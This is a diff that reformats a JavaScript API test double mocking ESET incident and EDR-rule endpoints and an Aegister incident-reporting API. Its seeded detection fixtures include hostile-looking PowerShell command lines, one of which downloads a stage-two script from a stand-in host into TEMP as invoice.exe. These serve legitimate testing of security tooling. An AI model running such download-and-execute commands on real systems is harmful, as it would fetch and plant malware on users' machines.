@@ -43,7 +43,9 @@ function seedIncidents(count = 5, detections = []) {
 	const statuses = ['INCIDENT_STATUS_OPEN', 'INCIDENT_STATUS_IN_PROGRESS', 'INCIDENT_STATUS_OPEN'];
 	const incidents = [];
 	for (let i = 1; i <= count; i++) {
-		const detectionUuids = detections.filter((d) => d.incidentNumber === i).map((d) => d.detection.uuid);
+		const detectionUuids = detections
+			.filter((d) => d.incidentNumber === i)
+			.map((d) => d.detection.uuid);
 		incidents.push({
 			uuid: `00000000-0000-4000-8000-${String(i).padStart(12, '0')}`,
 			displayName: i % 2 ? `Suspicious PowerShell on host-${i}` : `FP: scanner noise on host-${i}`,
@@ -110,7 +112,8 @@ function seedDetections() {
 				process: {
 					uuid: '7a4c0d52-6a0e-4b7e-9a34-1d2c3b4a5f61',
 					path: POWERSHELL,
-					commandLine: 'powershell.exe -nop -w hidden -c "iwr https://cmdline.example/stage2.ps1 -OutFile $env:TEMP\\invoice.exe"',
+					commandLine:
+						'powershell.exe -nop -w hidden -c "iwr https://cmdline.example/stage2.ps1 -OutFile $env:TEMP\\invoice.exe"',
 				},
 				networkTraffic: {
 					direction: 'NETWORK_TRAFFIC_DIRECTION_OUTBOUND',
@@ -127,7 +130,12 @@ function seedDetections() {
 				severityLevel: 'SEVERITY_LEVEL_HIGH',
 				severityScore: 80,
 				responses: [
-					{ actionType: 'OBJECT_ACTION_TYPE_DELETE', displayName: 'Cleaned by deleting', protectionName: 'Real-time file system protection', deviceRestartRequired: false },
+					{
+						actionType: 'OBJECT_ACTION_TYPE_DELETE',
+						displayName: 'Cleaned by deleting',
+						protectionName: 'Real-time file system protection',
+						deviceRestartRequired: false,
+					},
 				],
 			},
 		},
@@ -156,7 +164,13 @@ function seedDetections() {
 				resolved: false,
 				severityLevel: 'SEVERITY_LEVEL_HIGH',
 				severityScore: 75,
-				responses: [{ actionType: 'OBJECT_ACTION_TYPE_TERMINATE', displayName: 'Connection terminated', protectionName: 'Network attack protection' }],
+				responses: [
+					{
+						actionType: 'OBJECT_ACTION_TYPE_TERMINATE',
+						displayName: 'Connection terminated',
+						protectionName: 'Network attack protection',
+					},
+				],
 			},
 		},
 		{
@@ -167,14 +181,22 @@ function seedDetections() {
 				typeName: 'EDR rule',
 				category: 'DETECTION_CATEGORY_EDR_RULE',
 				edrRuleUuid: 'edr-rule-a0103',
-				circumstances: 'PowerShell ran an encoded command that downloads from 198.51.100.250 (see https://circumstances.example/x).',
+				circumstances:
+					'PowerShell ran an encoded command that downloads from 198.51.100.250 (see https://circumstances.example/x).',
 				note: 'Analyst: probably related to evil.example',
 				device: device(1),
 				userName: 'ACME\\anna',
 				objectName: POWERSHELL,
 				objectTypeName: 'Process',
-				process: { uuid: '7a4c0d52-6a0e-4b7e-9a34-1d2c3b4a5f61', path: POWERSHELL, commandLine: 'powershell.exe -enc SQBFAFgA http://192.0.2.10/x' },
-				triggeringEvent: { type: 'TRIGGERING_EVENT_TYPE_PROCESS_STARTED', data: { url: 'http://triggering-event.example/', ip: '192.0.2.11' } },
+				process: {
+					uuid: '7a4c0d52-6a0e-4b7e-9a34-1d2c3b4a5f61',
+					path: POWERSHELL,
+					commandLine: 'powershell.exe -enc SQBFAFgA http://192.0.2.10/x',
+				},
+				triggeringEvent: {
+					type: 'TRIGGERING_EVENT_TYPE_PROCESS_STARTED',
+					data: { url: 'http://triggering-event.example/', ip: '192.0.2.11' },
+				},
 				occurTime: '2026-11-02T09:57:00Z',
 				resolved: false,
 				severityLevel: 'SEVERITY_LEVEL_MEDIUM',
@@ -232,14 +254,25 @@ function seedDetections() {
 						},
 					],
 					bodyParts: [{ path: 'body.html', hashSha1: '2fd4e1c67a2d28fced849ee1bb76e7391b93eb12' }],
-					mtaSmtpDetails: { hello: 'mail.invoice-portal.example', sender: 'billing@invoice-portal.example', senderIpAddress: '198.51.100.23', recipients: ['anna@acme.example'] },
+					mtaSmtpDetails: {
+						hello: 'mail.invoice-portal.example',
+						sender: 'billing@invoice-portal.example',
+						senderIpAddress: '198.51.100.23',
+						recipients: ['anna@acme.example'],
+					},
 					origin: 'OBJECT_ORIGIN_MS_OFFICE365',
 				},
 				occurTime: '2026-11-04T07:40:00Z',
 				resolved: false,
 				severityLevel: 'SEVERITY_LEVEL_HIGH',
 				severityScore: 85,
-				responses: [{ actionType: 'OBJECT_ACTION_TYPE_QUARANTINE', displayName: 'Email quarantined', protectionName: 'Mail protection' }],
+				responses: [
+					{
+						actionType: 'OBJECT_ACTION_TYPE_QUARANTINE',
+						displayName: 'Email quarantined',
+						protectionName: 'Mail protection',
+					},
+				],
 			},
 		},
 		{
@@ -254,7 +287,13 @@ function seedDetections() {
 				objectName: 'https://login.invoice-portal.example/acme/signin',
 				objectTypeName: 'URL',
 				objectUrl: 'https://login.invoice-portal.example/acme/signin',
-				networkTraffic: { direction: 'NETWORK_TRAFFIC_DIRECTION_OUTBOUND', localIpAddress: '10.20.30.43', remoteIpAddress: '2001:DB8:0:0:0:0:0:7', remotePort: 443, protocolKeyword: 'TCP' },
+				networkTraffic: {
+					direction: 'NETWORK_TRAFFIC_DIRECTION_OUTBOUND',
+					localIpAddress: '10.20.30.43',
+					remoteIpAddress: '2001:DB8:0:0:0:0:0:7',
+					remotePort: 443,
+					protocolKeyword: 'TCP',
+				},
 				occurTime: '2026-11-04T07:42:00Z',
 				resolved: false,
 				severityLevel: 'SEVERITY_LEVEL_HIGH',
@@ -269,7 +308,12 @@ function seedDetections() {
 				typeName: 'TCP Port scanning attack',
 				category: 'DETECTION_CATEGORY_NETWORK_INTRUSION',
 				device: device(4),
-				networkTraffic: { direction: 'NETWORK_TRAFFIC_DIRECTION_INBOUND', localIpAddress: '10.20.30.44', remoteIpAddress: '10.20.30.250', protocolKeyword: 'TCP' },
+				networkTraffic: {
+					direction: 'NETWORK_TRAFFIC_DIRECTION_INBOUND',
+					localIpAddress: '10.20.30.44',
+					remoteIpAddress: '10.20.30.250',
+					protocolKeyword: 'TCP',
+				},
 				occurTime: '2026-11-05T10:00:00Z',
 				resolved: false,
 				severityLevel: 'SEVERITY_LEVEL_LOW',
@@ -293,7 +337,9 @@ function generatedDetections(count, incidentNumber = 0) {
 			typeName: 'Trojan',
 			device: { uuid: 'device-bulk', displayName: 'bulk-host' },
 			objectHashSha1: (index + 1).toString(16).padStart(40, '0'),
-			occurTime: new Date(Date.UTC(2026, 9, 1) + index * 60_000).toISOString().replace('.000Z', 'Z'),
+			occurTime: new Date(Date.UTC(2026, 9, 1) + index * 60_000)
+				.toISOString()
+				.replace('.000Z', 'Z'),
 			resolved: false,
 			severityLevel: 'SEVERITY_LEVEL_MEDIUM',
 			severityScore: 50,
@@ -337,7 +383,13 @@ const POWERSHELL_RULE_XML = `<?xml version="1.0" encoding="utf-8"?>
 
 /** EDR rules in the shape of ESET's `v2EdrRule`; A0103 is the rule that raised detection 3 of incident 1. */
 function seedEdrRules() {
-	const rule = (/** @type {string} */ uuid, /** @type {string} */ name, /** @type {string} */ severityLevel, /** @type {number} */ severityScore, enabled = true) => ({
+	const rule = (
+		/** @type {string} */ uuid,
+		/** @type {string} */ name,
+		/** @type {string} */ severityLevel,
+		/** @type {number} */ severityScore,
+		enabled = true,
+	) => ({
 		uuid,
 		displayName: name,
 		enabled,
@@ -349,9 +401,20 @@ function seedEdrRules() {
 		editorUuid: 'eset',
 	});
 	return [
-		rule('edr-rule-a0103', 'Suspicious PowerShell command line [A0103]', 'SEVERITY_LEVEL_MEDIUM', 55),
+		rule(
+			'edr-rule-a0103',
+			'Suspicious PowerShell command line [A0103]',
+			'SEVERITY_LEVEL_MEDIUM',
+			55,
+		),
 		rule('edr-rule-a0201', 'Rundll32 made a network connection [A0201]', 'SEVERITY_LEVEL_HIGH', 70),
-		rule('edr-rule-d0001', 'Diagnostic: new service installed [D0001]', 'SEVERITY_LEVEL_LOW', 20, false),
+		rule(
+			'edr-rule-d0001',
+			'Diagnostic: new service installed [D0001]',
+			'SEVERITY_LEVEL_LOW',
+			20,
+			false,
+		),
 	];
 }
 
@@ -380,17 +443,23 @@ function seedEdrRuleExclusions() {
  */
 function xmlDefinitionProblem(xml) {
 	if (typeof xml !== 'string' || !xml.trim()) return 'xmlDefinition is required';
-	const text = xml.replace(/<\?[\s\S]*?\?>/g, '').replace(/<!--[\s\S]*?-->/g, '').replace(/<!\[CDATA\[[\s\S]*?\]\]>/g, '');
+	const text = xml
+		.replace(/<\?[\s\S]*?\?>/g, '')
+		.replace(/<!--[\s\S]*?-->/g, '')
+		.replace(/<!\[CDATA\[[\s\S]*?\]\]>/g, '');
 	const stack = [];
 	let roots = 0;
-	for (const match of text.matchAll(/<(\/?)([A-Za-z_][\w.-]*)((?:\s+[\w.:-]+\s*=\s*(?:"[^"<]*"|'[^'<]*'))*)\s*(\/?)>|</g)) {
+	for (const match of text.matchAll(
+		/<(\/?)([A-Za-z_][\w.-]*)((?:\s+[\w.:-]+\s*=\s*(?:"[^"<]*"|'[^'<]*'))*)\s*(\/?)>|</g,
+	)) {
 		const [, closing, name, , selfClosing] = match;
 		if (!name) return 'invalid xml definition: malformed markup';
 		if (closing) {
 			if (stack.pop() !== name) return `invalid xml definition: unexpected </${name}>`;
 		} else {
 			if (stack.length === 0) roots++;
-			if (roots === 1 && stack.length === 0 && name !== 'rule') return `invalid rule definition: the root element is <${name}>, expected <rule>`;
+			if (roots === 1 && stack.length === 0 && name !== 'rule')
+				return `invalid rule definition: the root element is <${name}>, expected <rule>`;
 			if (!selfClosing) stack.push(name);
 		}
 	}
@@ -403,7 +472,15 @@ function xmlDefinitionProblem(xml) {
 /** The name ESET derives displayName from: the rule's description/name. @param {string} xml */
 function nameInXml(xml) {
 	const match = /<description>[\s\S]*?<name>([\s\S]*?)<\/name>/.exec(xml);
-	return match ? match[1].replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&apos;/g, "'").replace(/&amp;/g, '&').trim() : '';
+	return match
+		? match[1]
+				.replace(/&lt;/g, '<')
+				.replace(/&gt;/g, '>')
+				.replace(/&quot;/g, '"')
+				.replace(/&apos;/g, "'")
+				.replace(/&amp;/g, '&')
+				.trim()
+		: '';
 }
 
 /** @param {unknown} scopes @returns {string | undefined} */
@@ -411,9 +488,18 @@ function scopesProblem(scopes) {
 	if (scopes === undefined) return undefined;
 	if (!Array.isArray(scopes)) return 'scopes must be a list';
 	for (const scope of scopes) {
-		if (!scope || typeof scope !== 'object' || Array.isArray(scope)) return 'each scope must be an object';
+		if (!scope || typeof scope !== 'object' || Array.isArray(scope))
+			return 'each scope must be an object';
 		const keys = Object.keys(scope);
-		if (keys.length === 0 || keys.some((key) => !['deviceUuid', 'deviceGroupUuid'].includes(key) || typeof scope[key] !== 'string' || !scope[key])) {
+		if (
+			keys.length === 0 ||
+			keys.some(
+				(key) =>
+					!['deviceUuid', 'deviceGroupUuid'].includes(key) ||
+					typeof scope[key] !== 'string' ||
+					!scope[key],
+			)
+		) {
 			return `invalid scope ${JSON.stringify(scope)}: deviceUuid or deviceGroupUuid expected`;
 		}
 	}
@@ -430,7 +516,8 @@ function scopesProblem(scopes) {
  */
 function compileSearchFilter(filter) {
 	const tokens = [];
-	const pattern = /\s*(?:(\()|(\))|("[^"]*")|(-?\d+(?:\.\d+)?)|([A-Za-z_][\w]*(?:\.[A-Za-z_]\w*)*))/y;
+	const pattern =
+		/\s*(?:(\()|(\))|("[^"]*")|(-?\d+(?:\.\d+)?)|([A-Za-z_][\w]*(?:\.[A-Za-z_]\w*)*))/y;
 	let at = 0;
 	while (at < filter.length) {
 		if (/^\s*$/.test(filter.slice(at))) break;
@@ -443,11 +530,32 @@ function compileSearchFilter(filter) {
 		else if (m[3]) tokens.push({ kind: 'value', value: m[3].slice(1, -1) });
 		else if (m[4]) tokens.push({ kind: 'value', value: Number(m[4]) });
 		else if (['and', 'or'].includes(m[5])) tokens.push({ kind: m[5] });
-		else if (['eq', 'ne', 'gt', 'ge', 'lt', 'le'].includes(m[5])) tokens.push({ kind: 'op', value: m[5] });
-		else if (['true', 'false'].includes(m[5])) tokens.push({ kind: 'value', value: m[5] === 'true' });
+		else if (['eq', 'ne', 'gt', 'ge', 'lt', 'le'].includes(m[5]))
+			tokens.push({ kind: 'op', value: m[5] });
+		else if (['true', 'false'].includes(m[5]))
+			tokens.push({ kind: 'value', value: m[5] === 'true' });
 		else tokens.push({ kind: 'field', value: m[5] });
 	}
-	const FIELDS = ['resolved', 'severityScore', 'severityLevel', 'device', 'displayName', 'typeName', 'objectTypeName', 'objectName', 'objectHashSha1', 'edrRuleUuid', 'category', 'occurTime', 'userName', 'groupSize', 'resolvedCount', 'cloudOfficeTenantUuid', 'process', 'uuid'];
+	const FIELDS = [
+		'resolved',
+		'severityScore',
+		'severityLevel',
+		'device',
+		'displayName',
+		'typeName',
+		'objectTypeName',
+		'objectName',
+		'objectHashSha1',
+		'edrRuleUuid',
+		'category',
+		'occurTime',
+		'userName',
+		'groupSize',
+		'resolvedCount',
+		'cloudOfficeTenantUuid',
+		'process',
+		'uuid',
+	];
 	let position = 0;
 	/** @returns {(group: any) => boolean} */
 	const parseOr = () => {
@@ -474,20 +582,30 @@ function compileSearchFilter(filter) {
 			return inner;
 		}
 		const [op, literal] = [tokens[position++], tokens[position++]];
-		if (token?.kind !== 'field' || op?.kind !== 'op' || literal?.kind !== 'value') throw new Error('invalid filter: "field op value" expected');
+		if (token?.kind !== 'field' || op?.kind !== 'op' || literal?.kind !== 'value')
+			throw new Error('invalid filter: "field op value" expected');
 		const path = String(token.value).split('.');
 		if (!FIELDS.includes(path[0])) throw new Error(`invalid filter: unknown field ${token.value}`);
-		const compare = { eq: (/** @type {any} */ a, /** @type {any} */ b) => a === b, ne: (/** @type {any} */ a, /** @type {any} */ b) => a !== b, gt: (/** @type {any} */ a, /** @type {any} */ b) => a > b, ge: (/** @type {any} */ a, /** @type {any} */ b) => a >= b, lt: (/** @type {any} */ a, /** @type {any} */ b) => a < b, le: (/** @type {any} */ a, /** @type {any} */ b) => a <= b }[/** @type {'eq'} */ (op.value)];
+		const compare = {
+			eq: (/** @type {any} */ a, /** @type {any} */ b) => a === b,
+			ne: (/** @type {any} */ a, /** @type {any} */ b) => a !== b,
+			gt: (/** @type {any} */ a, /** @type {any} */ b) => a > b,
+			ge: (/** @type {any} */ a, /** @type {any} */ b) => a >= b,
+			lt: (/** @type {any} */ a, /** @type {any} */ b) => a < b,
+			le: (/** @type {any} */ a, /** @type {any} */ b) => a <= b,
+		}[/** @type {'eq'} */ (op.value)];
 		return (group) => {
 			let value = path.reduce((object, key) => (object == null ? undefined : object[key]), group);
 			if (typeof value === 'boolean' && typeof literal.value === 'number') value = value ? 1 : 0;
-			if (value === undefined && typeof literal.value === 'number' && path[0] === 'resolved') value = 0;
+			if (value === undefined && typeof literal.value === 'number' && path[0] === 'resolved')
+				value = 0;
 			return compare(value, literal.value);
 		};
 	};
 	try {
 		const matches = tokens.length ? parseOr() : () => true;
-		if (position !== tokens.length) return { problem: 'invalid filter: unexpected input after the expression' };
+		if (position !== tokens.length)
+			return { problem: 'invalid filter: unexpected input after the expression' };
 		return { matches };
 	} catch (error) {
 		return { problem: /** @type {Error} */ (error).message };
@@ -497,16 +615,44 @@ function compileSearchFilter(filter) {
 function seedOrganizations(count = 3) {
 	const organizations = [];
 	for (let i = 1; i <= count; i++) {
-		organizations.push({ id: i, name: i === 1 ? 'ACME Energia S.p.A.' : `Organization ${i}`, description: `Org ${i}` });
+		organizations.push({
+			id: i,
+			name: i === 1 ? 'ACME Energia S.p.A.' : `Organization ${i}`,
+			description: `Org ${i}`,
+		});
 	}
 	return organizations;
 }
 
 const THREAT_INTEL = {
-	ip: { crime_score: 87, country: 'NL', organization: 'Bulletproof Hosting BV', is_malicious: true, threat_types: ['c2', 'botnet'] },
-	domain: { crime_score: 64, country: 'RU', organization: 'Registrar X', is_malicious: true, threat_types: ['phishing'] },
-	url: { crime_score: 12, country: 'US', organization: 'CDN Inc', is_malicious: false, threat_types: [] },
-	hash: { crime_score: 95, country: null, organization: null, is_malicious: true, threat_types: ['ransomware'] },
+	ip: {
+		crime_score: 87,
+		country: 'NL',
+		organization: 'Bulletproof Hosting BV',
+		is_malicious: true,
+		threat_types: ['c2', 'botnet'],
+	},
+	domain: {
+		crime_score: 64,
+		country: 'RU',
+		organization: 'Registrar X',
+		is_malicious: true,
+		threat_types: ['phishing'],
+	},
+	url: {
+		crime_score: 12,
+		country: 'US',
+		organization: 'CDN Inc',
+		is_malicious: false,
+		threat_types: [],
+	},
+	hash: {
+		crime_score: 95,
+		country: null,
+		organization: null,
+		is_malicious: true,
+		threat_types: ['ransomware'],
+	},
 };
 
 /** @returns {Array<{ match: (r: RecordedRequest) => boolean, response: ScriptedResponse | ((r: RecordedRequest) => ScriptedResponse | undefined), times: number }>} */
@@ -547,7 +693,9 @@ function freshEsetState(newApiUser = false) {
 		/** when set, requests are counted per token and more than this many in a rolling second get 429 */
 		requestsPerSecondLimit: /** @type {number | undefined} */ (undefined),
 		/** per response-id: how many more 202s before the real answer */
-		pending: /** @type {Map<string, { remaining: number, key: string, collected: boolean }>} */ (new Map()),
+		pending: /** @type {Map<string, { remaining: number, key: string, collected: boolean }>} */ (
+			new Map()
+		),
 		/** answer this many next incident-management calls with 202 + response-id first */
 		slowResponses: 0,
 		/** how many 202 polls a slow response needs before it is ready */
@@ -568,7 +716,21 @@ function freshAegisterState() {
 		organizations: seedOrganizations(),
 		incidents: new Map(
 			[
-				[1, { id: 101, organization_id: 1, title: 'Ransomware on file server', reference_code: 'CSIRT-2026-001', status: 'draft', classification: {}, metadata: {}, '24h_notification': {}, '72h_notification': {}, full_report: {} }],
+				[
+					1,
+					{
+						id: 101,
+						organization_id: 1,
+						title: 'Ransomware on file server',
+						reference_code: 'CSIRT-2026-001',
+						status: 'draft',
+						classification: {},
+						metadata: {},
+						'24h_notification': {},
+						'72h_notification': {},
+						full_report: {},
+					},
+				],
 			].map(([org, incident]) => [`${org}/${/** @type {any} */ (incident).id}`, incident]),
 		),
 	};
@@ -576,12 +738,25 @@ function freshAegisterState() {
 
 /** A detection as `GET /v1/detections` lists it (incident_managementv1Detection). @param {any} d */
 function v1Detection(d) {
-	const { uuid, displayName, typeName, objectName, objectTypeName, objectUrl, objectHashSha1, occurTime, severityLevel } = d;
+	const {
+		uuid,
+		displayName,
+		typeName,
+		objectName,
+		objectTypeName,
+		objectUrl,
+		objectHashSha1,
+		occurTime,
+		severityLevel,
+	} = d;
 	return {
 		uuid,
 		displayName,
 		typeName,
-		category: d.category === 'DETECTION_CATEGORY_EDR_RULE' ? 'DETECTION_CATEGORY_CORRELATION_RULE' : d.category,
+		category:
+			d.category === 'DETECTION_CATEGORY_EDR_RULE'
+				? 'DETECTION_CATEGORY_CORRELATION_RULE'
+				: d.category,
 		objectName,
 		objectTypeName,
 		...(objectUrl ? { objectUrl } : {}),
@@ -598,14 +773,26 @@ function v1Detection(d) {
 	};
 }
 
-const SNAKE_TO_CAMEL = { create_time: 'createTime', update_time: 'updateTime', display_name: 'displayName', assignee_uuid: 'assigneeUuid', device_uuids: 'deviceUuids', severity: 'severity', status: 'status', tags: 'tags' };
+const SNAKE_TO_CAMEL = {
+	create_time: 'createTime',
+	update_time: 'updateTime',
+	display_name: 'displayName',
+	assignee_uuid: 'assigneeUuid',
+	device_uuids: 'deviceUuids',
+	severity: 'severity',
+	status: 'status',
+	tags: 'tags',
+};
 const CAMEL_FIELDS = new Set(Object.values(SNAKE_TO_CAMEL));
 
 /** The incident property of an orderBy field, snake or lower camel case (`create_time`, `createTime`). @param {string} name */
-const field = (name) => /** @type {Record<string,string>} */ (SNAKE_TO_CAMEL)[name] ?? (CAMEL_FIELDS.has(name) ? name : undefined);
+const field = (name) =>
+	/** @type {Record<string,string>} */ (SNAKE_TO_CAMEL)[name] ??
+	(CAMEL_FIELDS.has(name) ? name : undefined);
 
 /** The property of a filter field: ESET's help writes every one with the `incident.` prefix. @param {string} name */
-const filterField = (name) => (name.startsWith('incident.') ? field(name.slice('incident.'.length)) : undefined);
+const filterField = (name) =>
+	name.startsWith('incident.') ? field(name.slice('incident.'.length)) : undefined;
 
 const STRING = '("(?:[^"\\\\]|\\\\.)*")';
 const ENUM = '([A-Z][A-Z_]*)';
@@ -621,13 +808,34 @@ const WHOLE_SECONDS = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(Z|[+-]\d{2}:\d{2})$/
  * @type {Array<[RegExp, (m: RegExpMatchArray) => ((incident: any) => boolean) | undefined]>}
  */
 const FILTER_FORMS = [
-	[new RegExp(`^([\\w.]+) (==|!=) ${STRING}$`), (m) => textCompare(filterField(m[1]), m[2], JSON.parse(m[3]))],
+	[
+		new RegExp(`^([\\w.]+) (==|!=) ${STRING}$`),
+		(m) => textCompare(filterField(m[1]), m[2], JSON.parse(m[3])),
+	],
 	[new RegExp(`^([\\w.]+) == ${ENUM}$`), (m) => enumIn(filterField(m[1]), [m[2]])],
-	[new RegExp(`^([\\w.]+) in \\[(${ENUM.slice(1, -1)}(?:, ?${ENUM.slice(1, -1)})*)\\]$`), (m) => enumIn(filterField(m[1]), m[2].split(/, ?/))],
-	[/^([\w.]+) (>=|<=|<) timestamp\("([^"]+)"\)$/, (m) => timeCompare(filterField(m[1]), m[2], m[3])],
-	[new RegExp(`^([\\w.]+)\\.contains\\(${STRING}\\)$`), (m) => textContains(filterField(m[1]), JSON.parse(m[2]))],
-	[/^has\(([\w.]+)\)$/, (m) => { const key = filterField(m[1]); return key && ((i) => i[key] !== undefined && i[key] !== ''); }],
-	[/^size\(([\w.]+)\) >= (\d+)$|^([\w.]+)\.size\(\) >= (\d+)$/, (m) => listSize(filterField(m[1] ?? m[3]), Number(m[2] ?? m[4]))],
+	[
+		new RegExp(`^([\\w.]+) in \\[(${ENUM.slice(1, -1)}(?:, ?${ENUM.slice(1, -1)})*)\\]$`),
+		(m) => enumIn(filterField(m[1]), m[2].split(/, ?/)),
+	],
+	[
+		/^([\w.]+) (>=|<=|<) timestamp\("([^"]+)"\)$/,
+		(m) => timeCompare(filterField(m[1]), m[2], m[3]),
+	],
+	[
+		new RegExp(`^([\\w.]+)\\.contains\\(${STRING}\\)$`),
+		(m) => textContains(filterField(m[1]), JSON.parse(m[2])),
+	],
+	[
+		/^has\(([\w.]+)\)$/,
+		(m) => {
+			const key = filterField(m[1]);
+			return key && ((i) => i[key] !== undefined && i[key] !== '');
+		},
+	],
+	[
+		/^size\(([\w.]+)\) >= (\d+)$|^([\w.]+)\.size\(\) >= (\d+)$/,
+		(m) => listSize(filterField(m[1] ?? m[3]), Number(m[2] ?? m[4])),
+	],
 ];
 
 /** @param {string | undefined} key @param {string} op @param {string} value */
@@ -637,11 +845,14 @@ function textCompare(key, op, value) {
 }
 /** @param {string | undefined} key @param {string[]} values */
 function enumIn(key, values) {
-	return key === 'status' || key === 'severity' ? (/** @type {any} */ i) => values.includes(i[key]) : undefined;
+	return key === 'status' || key === 'severity'
+		? (/** @type {any} */ i) => values.includes(i[key])
+		: undefined;
 }
 /** @param {string | undefined} key @param {string} op @param {string} literal */
 function timeCompare(key, op, literal) {
-	if ((key !== 'createTime' && key !== 'updateTime') || !WHOLE_SECONDS.test(literal)) return undefined;
+	if ((key !== 'createTime' && key !== 'updateTime') || !WHOLE_SECONDS.test(literal))
+		return undefined;
 	const time = Date.parse(literal);
 	/** @type {Record<string, (a: number) => boolean>} */
 	const compare = { '>=': (a) => a >= time, '<=': (a) => a <= time, '<': (a) => a < time };
@@ -649,11 +860,15 @@ function timeCompare(key, op, literal) {
 }
 /** @param {string | undefined} key @param {string} value */
 function textContains(key, value) {
-	return key === 'displayName' ? (/** @type {any} */ i) => String(i[key] ?? '').includes(value) : undefined;
+	return key === 'displayName'
+		? (/** @type {any} */ i) => String(i[key] ?? '').includes(value)
+		: undefined;
 }
 /** @param {string | undefined} key @param {number} size */
 function listSize(key, size) {
-	return key === 'deviceUuids' ? (/** @type {any} */ i) => (i[key] ?? []).length >= size : undefined;
+	return key === 'deviceUuids'
+		? (/** @type {any} */ i) => (i[key] ?? []).length >= size
+		: undefined;
 }
 
 /**
@@ -730,11 +945,22 @@ class ApiDouble {
 	 * (appended to its `detectionUuids`). @param {number} count @param {string} [incidentUuid]
 	 */
 	seedEsetDetections(count, incidentUuid) {
-		const incident = incidentUuid === undefined ? undefined : this.eset.incidents.find((i) => i.uuid === incidentUuid);
-		if (incidentUuid !== undefined && !incident) throw new Error(`no seeded incident ${incidentUuid}`);
-		const generated = generatedDetections(count, incident ? this.eset.incidents.indexOf(incident) + 1 : 0).map((d) => d.detection);
+		const incident =
+			incidentUuid === undefined
+				? undefined
+				: this.eset.incidents.find((i) => i.uuid === incidentUuid);
+		if (incidentUuid !== undefined && !incident)
+			throw new Error(`no seeded incident ${incidentUuid}`);
+		const generated = generatedDetections(
+			count,
+			incident ? this.eset.incidents.indexOf(incident) + 1 : 0,
+		).map((d) => d.detection);
 		this.eset.detections.push(...generated);
-		if (incident) /** @type {any} */ (incident).detectionUuids = [...(/** @type {any} */ (incident).detectionUuids ?? []), ...generated.map((d) => d.uuid)];
+		if (incident)
+			/** @type {any} */ (incident).detectionUuids = [
+				.../** @type {any} */ (incident.detectionUuids ?? []),
+				...generated.map((d) => d.uuid),
+			];
 		return generated;
 	}
 
@@ -749,16 +975,35 @@ class ApiDouble {
 	seedEdrRulesAndExclusions(count) {
 		for (let i = 1; i <= count; i++) {
 			const [rule] = seedEdrRules();
-			this.eset.edrRules.push({ ...rule, uuid: `edr-rule-generated-${i}`, displayName: `Generated rule ${i}` });
+			this.eset.edrRules.push({
+				...rule,
+				uuid: `edr-rule-generated-${i}`,
+				displayName: `Generated rule ${i}`,
+			});
 			const [exclusion] = seedEdrRuleExclusions();
-			this.eset.edrRuleExclusions.push({ ...exclusion, uuid: `exclusion-generated-${i}`, ruleUuids: [`edr-rule-generated-${i}`] });
+			this.eset.edrRuleExclusions.push({
+				...exclusion,
+				uuid: `exclusion-generated-${i}`,
+				ruleUuids: [`edr-rule-generated-${i}`],
+			});
 		}
 	}
 
 	/** Give Aegister organization 1 the incidents 1 … `count` (for bulk runs). @param {number} count */
 	seedAegisterIncidents(count) {
 		for (let id = 1; id <= count; id++) {
-			this.aegister.incidents.set(`1/${id}`, { id, organization_id: 1, title: `Incident ${id}`, reference_code: '', status: 'draft', classification: {}, metadata: {}, '24h_notification': {}, '72h_notification': {}, full_report: {} });
+			this.aegister.incidents.set(`1/${id}`, {
+				id,
+				organization_id: 1,
+				title: `Incident ${id}`,
+				reference_code: '',
+				status: 'draft',
+				classification: {},
+				metadata: {},
+				'24h_notification': {},
+				'72h_notification': {},
+				full_report: {},
+			});
 		}
 	}
 
@@ -766,7 +1011,9 @@ class ApiDouble {
 	async start(port = 0) {
 		this.server = http.createServer((req, res) => this.receive(req, res));
 		this.server.keepAliveTimeout = 1000;
-		await new Promise((resolve) => this.server?.listen(port, '127.0.0.1', () => resolve(undefined)));
+		await new Promise((resolve) =>
+			this.server?.listen(port, '127.0.0.1', () => resolve(undefined)),
+		);
 		const address = /** @type {import('node:net').AddressInfo} */ (this.server.address());
 		this.url = `http://127.0.0.1:${address.port}`;
 		return this.url;
@@ -831,7 +1078,12 @@ class ApiDouble {
 			const respond = (/** @type {ScriptedResponse} */ response) => {
 				request.answered = { status: response.status, body: response.body };
 				const headers = { 'request-id': randomUUID(), ...(response.headers ?? {}) };
-				const payload = response.body === undefined ? '' : typeof response.body === 'string' ? response.body : JSON.stringify(response.body);
+				const payload =
+					response.body === undefined
+						? ''
+						: typeof response.body === 'string'
+							? response.body
+							: JSON.stringify(response.body);
 				if (payload && !headers['content-type']) headers['content-type'] = 'application/json';
 				res.writeHead(response.status, headers);
 				res.end(payload);
@@ -851,7 +1103,8 @@ class ApiDouble {
 	answer(request) {
 		const scripted = this.scripted.find((s) => s.times > 0 && s.match(request));
 		if (scripted) {
-			const response = typeof scripted.response === 'function' ? scripted.response(request) : scripted.response;
+			const response =
+				typeof scripted.response === 'function' ? scripted.response(request) : scripted.response;
 			if (response) {
 				scripted.times--;
 				return response;
@@ -859,7 +1112,8 @@ class ApiDouble {
 		}
 		if (request.path === '/eset/oauth/token') return this.esetToken(request);
 		// a chat or paging webhook, for example workflows that notify someone
-		if (request.path === '/notify' && request.method === 'POST') return { status: 200, body: { ok: true } };
+		if (request.path === '/notify' && request.method === 'POST')
+			return { status: 200, body: { ok: true } };
 		if (/^\/eset\/v[12]\//.test(request.path)) return this.esetApi(request);
 		if (request.path.startsWith('/aegister/')) return this.aegisterApi(request);
 		return { status: 404, body: { message: 'no such route in the API double' } };
@@ -869,18 +1123,31 @@ class ApiDouble {
 
 	/** @param {RecordedRequest} request @returns {ScriptedResponse} */
 	esetToken(request) {
-		if (!String(request.headers['content-type'] ?? '').includes('application/x-www-form-urlencoded')) {
+		if (
+			!String(request.headers['content-type'] ?? '').includes('application/x-www-form-urlencoded')
+		) {
 			return { status: 415, body: { error: 'unsupported_media_type' } };
 		}
 		const { grant_type: grantType, username, password } = request.body ?? {};
 		if (grantType !== 'password' || username !== this.eset.user || password !== ESET_PASSWORD) {
-			return { status: 400, body: { error: 'invalid_grant', error_description: 'Invalid user credentials' } };
+			return {
+				status: 400,
+				body: { error: 'invalid_grant', error_description: 'Invalid user credentials' },
+			};
 		}
 		const token = `eset-access-${randomUUID()}`;
 		const refreshToken = `eset-refresh-${randomUUID()}`;
 		this.eset.tokens.push(token);
 		this.eset.grants.push({ accessToken: token, refreshToken });
-		return { status: 200, body: { access_token: token, refresh_token: refreshToken, token_type: 'Bearer', expires_in: 3600 } };
+		return {
+			status: 200,
+			body: {
